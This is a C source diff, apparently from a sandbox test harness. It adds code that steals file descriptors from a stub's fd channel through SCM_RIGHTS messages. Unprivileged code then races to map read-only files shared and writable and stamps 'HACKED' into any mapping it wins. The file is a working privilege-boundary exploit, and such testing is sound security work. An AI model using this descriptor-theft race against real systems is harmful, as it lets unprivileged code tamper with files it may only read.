@@ -18,6 +18,7 @@
 #include <string.h>
 #include <unistd.h>
 #include <sys/mman.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -232,27 +233,63 @@ static void *map_loop(void *arg)
 	return NULL;
 }
 
+/* Maps fd shared and writable through the stub; 1 if that worked. */
+static int map_writable(long fd)
+{
+	long r = stub_call(SYS_mmap, 0x500000000L, 4096, PROT_READ | PROT_WRITE,
+			   MAP_SHARED | MAP_FIXED, fd, 0);
+	if (r != 0x500000000L)
+		return 0;
+	memcpy((void *)r, "HACKED", 6);
+	return 1;
+}
+
+/* Takes whatever fds wait on fd (the stub's fd channel, if it is one). */
+static int steal_fds(int fd, int *fds, int max)
+{
+	union {
+		char buf[CMSG_SPACE(4 * sizeof(int))];
+		struct cmsghdr align;
+	} u;
+	char data[16];
+	struct iovec iov = {data, sizeof data};
+	struct msghdr msg = {
+	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
+	if (stub_call(SYS_recvmsg, fd, (long)&msg, MSG_DONTWAIT, 0, 0, 0) < 0)
+		return 0;
+	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+	if (!c || c->cmsg_type != SCM_RIGHTS)
+		return 0;
+	int n = (int)((c->cmsg_len - CMSG_LEN(0)) / sizeof(int));
+	n = n < max ? n : max;
+	memcpy(fds, CMSG_DATA(c), (size_t)n * sizeof(int));
+	return n;
+}
+
 /* Another thread maps a file this user may only read; we try every fd the
- * stub might hold meanwhile, shared and writable. */
+ * stub might hold meanwhile, and every fd we can take from the stub's fd
+ * channel, shared and writable. */
 static void do_fd_race(void)
 {
 	pthread_t t;
 	if (setgid(1000) || setuid(1000))
 		exit(2);
 	pthread_create(&t, NULL, map_loop, NULL);
-	long got = 0;
+	long got = 0, taken = 0;
 	for (int round = 0; round < 20000; round++) {
 		for (int fd = 0; fd < 8; fd++) {
-			long r = stub_call(SYS_mmap, 0x500000000L, 4096, PROT_READ | PROT_WRITE,
-					   MAP_SHARED | MAP_FIXED, fd, 0);
-			if (r == 0x500000000L) {
-				got++;
-				memcpy((void *)r, "HACKED", 6);
+			int stolen[4], n = steal_fds(fd, stolen, 4);
+			taken += n;
+			got += map_writable(fd);
+			for (int i = 0; i < n; i++) {
+				got += map_writable(stolen[i]);
+				stub_call(SYS_close, stolen[i], 0, 0, 0, 0, 0);
 			}
 		}
 	}
 	stop = 1;
 	pthread_join(t, NULL);
+	printf("fds taken from the channel: %ld\n", taken);
 	printf("writable mappings won: %ld\n", got);
 }
 
